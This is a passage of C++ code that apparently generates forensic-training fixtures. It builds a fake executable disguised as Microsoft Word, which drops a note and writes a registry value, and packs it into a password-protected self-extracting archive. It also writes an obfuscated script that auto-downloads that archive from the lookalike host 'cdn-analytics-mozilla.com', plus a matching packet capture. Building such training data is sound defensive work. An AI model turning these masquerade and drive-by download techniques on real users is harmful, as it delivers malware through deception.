        const auto at = static_cast<std::uint32_t>(data.size());
        append(data, v);
        return at;
    };
    const auto name_off = place_bytes(utf16z(value_name));
    const auto data_off = place_bytes(utf16z(data_path));
    const auto data_len = static_cast<std::uint32_t>(utf16z(data_path).size());
    const auto path_off = place_bytes(utf16z(note_path));
    for (const char* k : {"Url", "IpAddress", "EmailAddress", "Wallet", "RegistryKey"}) {
        auto v = to_bytes(s.seeded[k]);
        v.push_back(0);
        place_bytes(v);
    }
    const auto note_off = place_bytes(to_bytes(s.note));
    data.push_back(0);
    const auto note_len = static_cast<std::uint32_t>(s.note.size());

    PeSpec inner;
    inner.imports = {{"KERNEL32.dll", {"CreateFileW", "WriteFile", "CloseHandle", "ExitProcess"}, {}},
                     {"ADVAPI32.dll", {"RegSetValueExW"}, {}}};
    inner.version_strings = {{"CompanyName", "Microsoft Corporation"},
                             {"FileDescription", "Microsoft Word"},
                             {"FileVersion", "16.0.4266.1001"},
                             {"InternalName", "WinWord"},
                             {"OriginalFilename", "WinWord.exe"},
                             {"ProductName", "Microsoft Office"}};
    inner.icon_dib = word_icon();
    inner.sections.push_back({".data", scn_data, data, {}, 0});
    SectionSpec text{".text", scn_code, {}, {}, 0};
    text.generate = [=](const PeLayout& l) {
        Bytes c;
        const auto k32 = std::string("KERNEL32.dll");
        push_imm(c, 0);          // hTemplateFile
        push_imm(c, 0x80);       // FILE_ATTRIBUTE_NORMAL
        push_imm(c, 2);          // CREATE_ALWAYS
        push_imm(c, 0);          // lpSecurityAttributes
        push_imm(c, 0);          // dwShareMode
        push_imm(c, 0x40000000); // GENERIC_WRITE
        push_imm(c, static_cast<std::uint32_t>(l.va(".data", path_off)));
        call_iat(c, l.iat_va(k32, "CreateFileW"));
        c.insert(c.end(), {0x89, 0xC6}); // mov esi, eax
        push_imm(c, 0);
        push_imm(c, static_cast<std::uint32_t>(l.va(".data", 0)));
        push_imm(c, note_len);
        push_imm(c, static_cast<std::uint32_t>(l.va(".data", note_off)));
        c.push_back(0x56); // push esi
        call_iat(c, l.iat_va(k32, "WriteFile"));
        c.push_back(0x56);
        call_iat(c, l.iat_va(k32, "CloseHandle"));
        push_imm(c, data_len);
        push_imm(c, static_cast<std::uint32_t>(l.va(".data", data_off)));
        push_imm(c, 1); // REG_SZ
        push_imm(c, 0);
        push_imm(c, static_cast<std::uint32_t>(l.va(".data", name_off)));
        push_imm(c, 0x80000001); // HKEY_CURRENT_USER
        call_iat(c, l.iat_va("ADVAPI32.dll", "RegSetValueExW"));
        push_imm(c, 0);
        call_iat(c, l.iat_va(k32, "ExitProcess"));
        c.push_back(0xC3);
        return c;
    };
    inner.sections.push_back(text);
    inner.entry_section = ".text";
    s.payload = build_pe(inner);

    PeSpec sfx;
    sfx.imports = {{"KERNEL32.dll", {"ExitProcess"}, {}}};
    SectionSpec stub{".text", scn_code, {}, {}, 0};
    stub.generate = [](const PeLayout& l) {
        Bytes c;
        push_imm(c, 0);
        call_iat(c, l.iat_va("KERNEL32.dll", "ExitProcess"));
        c.push_back(0xC3);
        return c;
    };
    sfx.sections.push_back(stub);
    sfx.exports = ExportSpec{"sfxzip.exe", {"SfxMain"}};
    sfx.entry_section = ".text";
    sfx.overlay = build_zip({{s.payload_name, s.payload, true, s.password, false}}, 7);
    s.installer = build_pe(sfx);

    s.image = build_bmp24(render_text_image(s.password));

    const std::string host = "cdn-analytics-mozilla.com";
    const std::string plain =
        "function track() {\n"
        "    var img = new Image();\n"
        "    img.src = \"http://" + host + "/" + s.image_name + "\";\n"
        "    document.body.appendChild(img);\n"
        "}\n"
        "function update() {\n"
        "    var link = document.createElement(\"a\");\n"
        "    link.href = \"http://" + host + "/" + s.installer_name + "\";\n"
        "    link.download = \"" + s.installer_name + "\";\n"
        "    document.body.appendChild(link);\n"
        "    link.click();\n"
        "}\n"
        "track();\n"
        "update();\n";
    std::mt19937 rng(2024);
    s.script = to_bytes(obfuscate_js(plain, rng, false));

    std::vector<Bytes> frames;
    const std::vector<std::tuple<std::string, std::string, const Bytes*>> served{
        {"/" + s.script_name, "application/javascript", &s.script},
        {"/" + s.image_name, "image/bmp", &s.image},
        {"/" + s.installer_name, "application/octet-stream", &s.installer}};
    std::uint16_t port = 49200;
    for (const auto& [target, type, body] : served) {
        Conversation c;
        c.client_port = port++;
        c.client_isn = 1000u * port;
        c.server_isn = 7000u * port;
        auto [req, resp] = http_exchange(host, target, type, *body);
        std::vector<Segment> segs = split_payload(true, req, {});
        std::vector<std::size_t> sizes(resp.size() / 1400 + 1, 1400);
        auto server = split_payload(false, resp, sizes);
        segs.insert(segs.end(), server.begin(), server.end());
        auto f = conversation_frames(c, segs);
        frames.insert(frames.end(), f.begin(), f.end());
    }
    s.pcap = build_pcap(frames);
    return s;
}

} // namespace casefile::fixtures
